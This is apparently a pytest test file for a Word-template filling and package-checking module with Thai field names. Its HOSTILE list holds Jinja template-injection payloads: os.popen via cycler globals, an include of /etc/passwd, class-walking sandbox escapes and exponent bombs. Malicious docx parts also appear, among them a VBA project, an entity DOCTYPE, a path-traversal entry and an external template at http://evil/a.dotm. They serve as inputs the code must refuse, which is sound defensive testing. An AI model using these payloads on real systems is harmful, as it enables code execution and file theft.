"""A template takes plain data, runs nothing, and says what is wrong with it where it stands."""

import io
import zipfile

import docx
import pytest

from nithet.foundation.documents.templates.filling import Picture, fields_in, fill, problems_of
from nithet.foundation.documents.templates.package import check
from nithet.kernel.errors import BadInput
from tests.domain.papers.samples import a_docx, a_photo

KNOWN = {"ชื่อโรงเรียน": (), "วันที่": (), "คณะ": ("ลำดับ", "ชื่อ"), "ภาพ": ()}


def text_of(data: bytes) -> str:
    made = docx.Document(io.BytesIO(data))
    cells = [c.text for t in made.tables for r in t.rows for c in r.cells]
    return "\n".join([*(p.text for p in made.paragraphs), *cells])


def test_thai_names_are_filled_and_texts_are_data() -> None:
    made = fill(a_docx("เรียน ผอ. {{ชื่อโรงเรียน}} วันที่ {{ วันที่ }}"), {"ชื่อโรงเรียน": "<b>& \"ก\" {{วันที่}}\nบรรทัดสอง", "วันที่": "1 ต.ค. 2555"})
    assert '<b>& "ก" {{วันที่}}' in text_of(made)
    assert "บรรทัดสอง" in text_of(made)
    assert "1 ต.ค. 2555" in text_of(made)


def test_rows_return() -> None:
    template = a_docx("{%p for คน in คณะ %}", "{{คน.ลำดับ}} {{คน.ชื่อ}}", "{%p endfor %}")
    assert problems_of(template, KNOWN) == []
    made = fill(template, {"คณะ": [{"ลำดับ": 1, "ชื่อ": "ประธาน"}, {"ลำดับ": 2, "ชื่อ": "กรรมการ"}]})
    assert "1 ประธาน\n2 กรรมการ" in text_of(made)
    assert fields_in(template) == ["คณะ"]


def test_a_picture_stands_where_its_field_stood() -> None:
    made = fill(a_docx("{{ภาพ}}"), {"ภาพ": Picture(a_photo(), width=40)})
    assert len(docx.Document(io.BytesIO(made)).inline_shapes) == 1


def test_an_unknown_field_is_named_with_its_paragraph_and_the_nearest_one() -> None:
    [problem] = problems_of(a_docx("หัวเรื่อง", "เรียน {{ชื่อโรงเรียนน}}"), KNOWN)
    assert (problem.field, problem.paragraph, problem.meant) == ("ชื่อโรงเรียนน", 2, "ชื่อโรงเรียน")
    [problem] = problems_of(a_docx("{%p for คน in คณะ %}", "{{คน.สกุล}}", "{%p endfor %}"), KNOWN)
    assert (problem.field, problem.paragraph) == ("สกุล", 2)


HOSTILE = [
    "{{ ''.__class__.__mro__ }}",
    "{{ ชื่อโรงเรียน.__class__ }}",
    "{{ ชื่อโรงเรียน.upper() }}",
    "{{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ range(999999999) }}",
    "{{ 9**9**9 }}",
    "{{ ชื่อโรงเรียน * 999999999 }}",
    "{{ ชื่อโรงเรียน|attr('__class__') }}",
    "{{ ชื่อโรงเรียน['__class__'] }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as o %}",
    "{% extends 'x' %}",
    "{% macro a() %}{% endmacro %}",
    "{% set a = 1 %}",
    "{% for a in คณะ recursive %}{{ loop(a) }}{% endfor %}",
    "{% for a in คณะ %}{% for b in คณะ %}{% for c in คณะ %}ก{% endfor %}{% endfor %}{% endfor %}",
    "{% for a in [1,2] %}ก{% endfor %}",
    "{% filter upper %}ก{% endfilter %}",
    "{{ lipsum.__globals__ }}",
    "{{ ชื่อโรงเรียน",
    "{% for คน in คณะ %}ไม่จบ",
]


@pytest.mark.parametrize("words", HOSTILE)
def test_what_is_more_than_a_name_is_refused_before_it_is_used(words: str) -> None:
    assert problems_of(a_docx(words), KNOWN)


@pytest.mark.parametrize("words", HOSTILE[:-1])
def test_even_unchecked_it_runs_nothing(words: str) -> None:
    rows = [{"ลำดับ": "1", "ชื่อ": "ก"}] * 3
    try:
        made = fill(a_docx(words), {"ชื่อโรงเรียน": "ก", "คณะ": rows})
    except BadInput as error:
        assert error.code == "template.broken"
    else:
        assert "root:" not in text_of(made)
        assert "class" not in text_of(made)


def test_what_is_not_understood_is_shown_as_it_stands() -> None:
    [problem] = problems_of(a_docx("ก", "เรียน {{ชื่อโรงเรียน}} {{ x.y() }}"), KNOWN)
    assert (problem.is_broken, problem.field, problem.paragraph) == (True, "{{ x.y() }}", 2)


def changed(data: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as read, zipfile.ZipFile(out, "w") as written:
        for entry in read.namelist():
            if entry != name:
                written.writestr(entry, read.read(entry))
        written.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("word/vbaProject.bin", b"x", "template.active"),
        ("word/embeddings/oleObject1.bin", b"x", "template.active"),
        ("word/x.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "template.not_docx"),
        ("word/x.xml", "<a/>".encode("utf-16"), "template.not_docx"),
        ("../x.xml", b"<a/>", "template.not_docx"),
        ("word/_rels/settings.xml.rels", b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil/a.dotm" TargetMode="External"/></Relationships>', "template.outside"),
    ],
)
def test_a_package_that_is_more_than_a_word_file_is_refused(name: str, content: bytes, code: str) -> None:
    with pytest.raises(BadInput) as refused:
        check(changed(a_docx("ก"), name, content))
    assert refused.value.code == code


@pytest.mark.parametrize("data", [b"", b"PK", b"not a file", a_docx("ก")[:200]])
def test_what_is_no_word_file_is_refused(data: bytes) -> None:
    with pytest.raises(BadInput):
        check(data)
